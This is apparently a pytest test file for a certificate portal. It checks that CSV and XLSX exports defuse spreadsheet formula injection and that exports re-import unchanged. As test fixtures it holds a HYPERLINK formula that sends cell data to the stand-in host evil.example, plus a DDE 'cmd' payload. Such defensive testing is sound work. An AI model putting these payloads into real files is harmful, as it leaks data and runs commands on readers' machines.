"""Exports no spreadsheet runs as a formula, and an export imports back unchanged (#13.2, #13.3)."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from portal.extensions import db
from portal.models import Certificate
from portal.register.cells import FORMULA_START, neutralise, restore
from portal.services import certificates as certificate_service
from portal.services import exporting, importing
from tests.factories import NOW
from tests.import_support import wipe_database
from tests.staff_support import signed_in_client

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
TEXT_COLUMNS = ("standard", "holder_name_zh", "holder_name_en", "address_zh", "address_en",
                "province", "city", "scope_zh", "scope_en", "status_reason", "accreditation")
# Values that must survive: each formula start, apostrophes, OOXML escapes, line breaks.
STARTS = ("=", "+", "-", "@", "\t", "\r")
ODD = ("'t Hooft Holding B.V.", "'=1+2", "''double", "'", "a_x000D_b", "first\r\nsecond\rthird")


def _register(make_certificate) -> list[dict]:
    """Certificates whose every text column holds a leading formula character (or odd text).

    List items (sites, former names) are trimmed of surrounding whitespace by the rules, so
    a list cell starts with a tab or CR only through its first item: those get `=` instead.
    """
    made = []
    for n, start in enumerate((*STARTS, *ODD)):
        values = {name: f"{start}{name} {n} 值" if start in STARTS else f"{start} {name}"
                  for name in TEXT_COLUMNS}
        item = "=" if start in ("\t", "\r") else start.strip() or "="
        cert = make_certificate(
            certificate_number=f"02726Q{20000 + n}R1M", status="suspended",
            status_date=date(2026, 1, 5), sites=[f"{item}site {n}", f"@site {n}b"],
            former_names=[f"{item}former {n}"], **values)
        made.append(certificate_service.snapshot(cert))
    return made


def _snapshots() -> list[dict]:
    db.session.expire_all()
    certs = db.session.scalars(db.select(Certificate).order_by(Certificate.certificate_number))
    return [certificate_service.snapshot(c) for c in certs]


def _plan(content: bytes, filename: str) -> importing.ImportPlan:
    return importing.plan_certificate_import(io.BytesIO(content), filename)


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))  # not read-only: cell types are visible
    return [cell for row in book.worksheets[0].iter_rows() for cell in row]


def _assert_no_formula(content: bytes, filename: str) -> None:
    if filename.endswith(".csv"):
        texts = _csv_cells(content)
    else:
        cells = _xlsx_cells(content)
        assert all(cell.data_type != "f" for cell in cells)
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert texts and not [text for text in texts if text.startswith(FORMULA_START)]


@pytest.mark.parametrize("filename", ["register.csv", "register.xlsx"])
def test_export_then_import_of_formula_like_text_changes_nothing(app, make_certificate,
                                                                   filename):
    original = _register(make_certificate)
    first = io.BytesIO()
    exporting.export_certificates(first, filename)
    _assert_no_formula(first.getvalue(), filename)
    # Importing the export onto the same register: every row unchanged, no problem.
    plan = _plan(first.getvalue(), filename)
    assert plan.errors == []
    assert [r.action for r in plan.rows] == ["unchanged"] * len(original)
    # Into an empty register: the very same values, and the same export again.
    wipe_database()
    importing.apply_certificate_import(_plan(first.getvalue(), filename), actor="t", now=NOW)
    assert _snapshots() == sorted(original, key=lambda s: s["certificate_number"])
    second = io.BytesIO()
    exporting.export_certificates(second, filename)
    if filename.endswith(".csv"):
        assert second.getvalue() == first.getvalue()
    else:
        assert [c.value for c in _xlsx_cells(second.getvalue())] == \
            [c.value for c in _xlsx_cells(first.getvalue())]


def test_neutralise_is_undone_exactly_and_leaves_ordinary_text_alone():
    for text in (*STARTS, *ODD, "", "plain", "上海", "'", "''", "'a", "'\t", "=", "x=1"):
        assert restore(neutralise(text)) == text
    assert neutralise("'t Hooft") == "'t Hooft" and neutralise("上海") == "上海"
    assert neutralise(EVIL) == "'" + EVIL and neutralise("-5") == "'-5"


def test_staff_register_downloads_hold_no_live_formula(app, make_certificate):
    make_certificate(holder_name_zh=EVIL, holder_name_en="@SUM(1+1)*cmd|' /C calc'!A0")
    registrar = signed_in_client(app, "registrar")
    workbook = registrar.get("/staff/register.xlsx")
    assert workbook.status_code == 200
    _assert_no_formula(workbook.data, "register.xlsx")
    assert "'" + EVIL in [c.value for c in _xlsx_cells(workbook.data)]
    table = registrar.get("/staff/register.csv")
    _assert_no_formula(table.data, "register.csv")
    assert "'" + EVIL in _csv_cells(table.data)


def test_verify_list_download_holds_no_live_formula(client, make_certificate):
    cert = make_certificate(holder_name_zh=EVIL)
    out = io.StringIO()
    csv.writer(out).writerows([["certificate_number", "name"], [cert.certificate_number, ""],
                               ["", EVIL], ["-1+2", ""]])
    body = out.getvalue().encode()
    response = client.post("/verify-list", data={"file": (io.BytesIO(body), "list.csv"),
                                                 "format": "xlsx"},
                           content_type="multipart/form-data")
    assert response.status_code == 200
    _assert_no_formula(response.data, "list.xlsx")
    values = [c.value for c in _xlsx_cells(response.data)]
    assert "'" + EVIL in values and "'-1+2" in values


# Names an open-data export must write by the register's cell rules (`portal.register.cells`)
# for the import reader to give them back exactly: a quote before a formula character, an
# OOXML escape, a formula, and an ordinary quote.
OPEN_DATA_NAMES = ("'=1+2 有限公司", "a_x000D_b 有限公司", "=SUM(1) 有限公司", "'t Hooft 有限公司")


def _open_data_exports(client) -> dict[str, tuple[bytes, str]]:
    from portal.services import iaf_export
    from tests.integration.test_verify_list_downloads import check, download_links

    numbers = [c.certificate_number for c in db.session.scalars(db.select(Certificate))]
    links = download_links(check(client, ("certificate_number\n" + "\n".join(numbers))
                                 .encode()))
    exports = {"register.csv": (client.get("/register.csv").data, "register.csv"),
               "verify-list.csv": (client.get(links["csv"]).data, "list.csv"),
               "verify-list.xlsx": (client.get(links["xlsx"]).data, "list.xlsx")}
    for name in ("iaf.csv", "iaf.xlsx"):
        out = io.BytesIO()
        iaf_export.write_iaf(out, name, today=date(2026, 12, 3))
        exports[name] = (out.getvalue(), name)
    return exports


@pytest.mark.parametrize("export", ["register.csv", "iaf.csv", "iaf.xlsx", "verify-list.csv",
                                    "verify-list.xlsx"])
def test_open_data_exports_write_cells_by_the_register_rules(client, make_certificate, export):
    from portal.register.tables import read_table

    for n, name in enumerate(OPEN_DATA_NAMES):
        make_certificate(certificate_number=f"02726Q{30000 + n}R1M", holder_name_zh=name)
    content, filename = _open_data_exports(client)[export]
    _assert_no_formula(content, filename)
    table = read_table(io.BytesIO(content), filename)
    cells = {cell for _, row in table.rows for cell in row}
    assert [name for name in OPEN_DATA_NAMES if name not in cells] == []
    if filename.endswith(".xlsx"):  # every text cell an explicit text cell
        assert {c.data_type for c in _xlsx_cells(content) if isinstance(c.value, str)} == {"s"}
